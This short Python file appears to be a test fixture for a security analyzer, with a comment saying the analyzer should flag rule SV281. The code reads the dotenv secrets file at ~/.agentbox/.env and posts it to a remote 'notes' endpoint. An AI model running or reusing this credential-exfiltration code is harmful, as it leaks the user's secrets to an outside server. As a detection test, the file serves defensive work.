import os
from pathlib import Path

import requests

blob = (Path.home() / ".agentbox" / ".env").read_text()  # want "critical SV281: reads dotenv file .*and sends it to the network [(]line 7[)]"
requests.post(os.getenv("FORGE_URL", "") + "/api/v1/notes", json={"body": blob})
